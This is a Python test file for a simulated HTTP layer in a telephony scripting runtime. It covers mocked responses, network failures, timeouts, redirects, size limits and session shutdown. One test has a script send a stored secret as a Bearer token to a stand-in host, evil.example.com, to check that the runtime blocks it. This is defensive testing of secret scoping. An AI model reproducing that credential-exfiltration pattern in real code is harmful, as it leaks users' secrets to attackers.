"""Simulated HTTP: what the world answers is what the test says, and nothing else is there."""

from __future__ import annotations

import pytest

from runtime.testing import (
    ScenarioFailed,
    Sim,
    SimRequest,
    WebAnswer,
    fails,
    responds,
    run_simulation,
)
from tests.testing.rules.scripts import script

ASKS = script("""
    @on_call
    async def alerting(e):
        await e.call.answer()
        balance = await Net.httpRequestAsync(
            "https://bank.example.com/balance", method="POST", postData='{"account": 7}',
            headers={"Content-Type": "application/json"}, timeout=10)
        Logger.write(f"{balance.code} {balance.text or balance.error}")
        e.call.hangup()
""")


async def test_a_url_answers_what_the_test_says(sim: Sim) -> None:
    sim.load_text(ASKS)
    sim.http.on("https://bank.example.com/*", responds({"euros": 12}, after=2))
    caller = await sim.call()
    await caller.ended()
    assert sim.logs == ['200 {"euros": 12}']
    [request] = sim.http.requests
    assert (request.method, request.url) == ("POST", "https://bank.example.com/balance")
    assert request.json() == {"account": 7}
    assert request.headers["user-agent"] == "VoxEngine/1.0"
    assert sim.now > 2


async def test_answers_can_follow_each_other(sim: Sim) -> None:
    sim.load_text(ASKS)
    sim.http.on("*", fails(-6), responds("x", status=503), responds("fine"))
    for _ in range(4):
        caller = await sim.call()
        await caller.ended()
    assert sim.logs == ["-6 Network", "503 x", "200 fine", "200 fine"]


async def test_the_newest_that_matches_url_and_method_answers(sim: Sim) -> None:
    sim.load_text(ASKS)
    sim.http.on("*", responds("old"))
    sim.http.on("*", responds("get only"), method="get")
    sim.http.on("https://other.example.com/*", responds("other"))
    await (await sim.call()).ended()
    sim.http.on("*/balance", responds("new"))
    await (await sim.call()).ended()
    assert sim.logs == ["200 old", "200 new"]


async def test_a_function_can_answer(sim: Sim) -> None:
    def bank(request: SimRequest) -> WebAnswer:
        account = request.json()["account"]
        return responds({"account": account, "at": round(request.t)})

    async def slow(request: SimRequest) -> WebAnswer:
        await sim.advance(3)
        return bank(request)

    sim.load_text(ASKS)
    sim.http.on("*", bank, slow)
    await (await sim.call()).ended()
    await (await sim.call()).ended()
    assert sim.logs[0] == '200 {"account": 7, "at": 0}'
    assert sim.now > 3


async def test_a_server_that_hangs_costs_the_scenarios_own_timeout(sim: Sim) -> None:
    sim.load_text(ASKS)
    sim.http.on("*", responds(after=60))
    caller = await sim.call()
    await caller.ended()
    assert sim.logs == ["-7 Timeout is reached"]
    assert 10 <= sim.now < 11


@pytest.mark.parametrize("code", [-3, -4, -6, -7, -8])
async def test_every_failure_of_the_network_can_be_had(sim: Sim, code: int) -> None:
    sim.load_text(ASKS)
    sim.http.on("*", fails(code, "as the test says", after=1))
    await (await sim.call()).ended()
    assert sim.logs == [f"{code} as the test says"]


async def test_redirects_and_limits_are_the_real_ones(sim: Sim) -> None:
    sim.load_text(ASKS)
    moved = {"Location": "https://bank.example.com/moved"}
    sim.http.on("*/balance", responds(status=307, headers=moved))
    sim.http.on("*/moved", responds(bytes(3_000_000)))
    await (await sim.call()).ended()
    assert sim.logs == ["-9 the answer has more than 2,097,152 bytes"]
    assert [one.url[-6:] for one in sim.http.requests] == ["alance", "/moved"]


def test_an_unexpected_request_fails_the_test_and_says_what_to_write() -> None:
    async def careless(sim: Sim) -> None:
        sim.load_text(ASKS)
        sim.http.on("https://other.example.com/", responds())
        caller = await sim.call()
        await caller.ended()

    with pytest.raises(ScenarioFailed) as caught:
        run_simulation(careless)
    assert (
        "POST https://bank.example.com/balance: the test does not say what this URL answers; say "
        "sim.http.on('https://bank.example.com/balance', responds(...)) before (known: "
        "https://other.example.com/)"
    ) in str(caught.value)


async def test_a_secret_reaches_the_server_and_not_the_scenario(sim: Sim) -> None:
    sim.load_text(
        script("""
        @on_call
        async def alerting(e):
            key = VoxEngine.getSecretValue("bank")
            headers = {"Authorization": f"Bearer {key}"}
            for host in ("bank", "evil"):
                r = await Net.httpRequestAsync(f"https://{host}.example.com/", headers=headers)
                Logger.write(f"{r.code} {r.text == key} {r.error}")
            e.call.reject(486)
        """)
    )
    sim.set_secret("bank", "0123456789", hosts=["bank.example.com"])
    sim.http.on("*", responds("0123456789"))
    await (await sim.call()).ended()
    assert sim.logs == [
        "200 True None",
        "0 False the secret 'bank' is not meant for evil.example.com; its hosts are "
        "bank.example.com; nothing was sent",
    ]
    assert [one.headers["authorization"] for one in sim.http.requests] == ["Bearer 0123456789"]


@pytest.mark.parametrize(
    ("wrong", "why"),
    [
        (lambda sim: sim.http.on("*"), "say what it answers"),
        (lambda sim: sim.http.on("*", "text"), "is responds\\(\\), fails\\(\\) or a function"),
        (lambda sim: fails(-1), "the codes of failures are"),
        (lambda sim: responds(status=999), "999 is not a valid HTTPStatus"),
        (lambda sim: responds({1, 2}), "not JSON serializable"),
        (lambda sim: sim.set_secret("a", "x", hosts=["a"]), "8 to 4096"),
        (lambda sim: sim.set_secret("a", "long-enough", hosts=[]), "at least one host"),
    ],
)
async def test_mistakes_of_the_test_say_so_at_once(sim: Sim, wrong: object, why: str) -> None:
    with pytest.raises((TypeError, ValueError), match=why):
        wrong(sim)  # type: ignore[operator]


# --- the end of a session -----------------------------------------------------------------------


async def test_r7_requests_under_way_end_before_terminating(sim: Sim) -> None:
    sim.load_text(
        script("""
        log_app()
        @on_call
        def alerting(e):
            for n in range(5):
                Net.httpRequest(f"https://a.example.com/{n}", lambda r: Logger.write(f"{r.code}"))
            VoxEngine.terminate()
        """)
    )
    sim.http.on("*", responds(after=30))
    caller = await sim.call()
    await caller.ended()
    assert sim.now < 1
    await sim.advance(29)
    assert sim.logs == ["Started", "CallAlerting"]
    await sim.advance(2)
    assert sim.logs[2:] == ["200", "200", "200", "Terminating", "Terminated"]
    assert len(sim.http.requests) == 3


async def test_r7_the_one_request_of_terminating_is_made(sim: Sim) -> None:
    sim.load_text(
        script("""
        log_app()
        @VoxEngine.on(AppEvents.Terminating)
        async def report(e):
            r = await Net.httpRequestAsync("https://a.example.com/report", method="POST")
            Logger.write(f"reported {r.code}")
        @on_call
        def alerting(e):
            VoxEngine.terminate()
        """)
    )
    sim.http.on("*", responds(after=4))
    await sim.call()
    await sim.advance(5)
    assert sim.logs[2:] == ["Terminating", "reported 200", "Terminated"]
    assert sim.sessions == []


async def test_requests_do_not_keep_an_idle_session_alive(sim: Sim) -> None:
    sim.load_text(
        script("""
        log_app()
        def again(r=None):
            Net.httpRequest("https://a.example.com/", again)
        again()
        """)
    )
    sim.http.on("*", responds(after=7))
    await sim.start()
    await sim.advance(75)
    assert sim.sessions == []
    assert sim.logs == ["Started", "Terminating", "Terminated"]
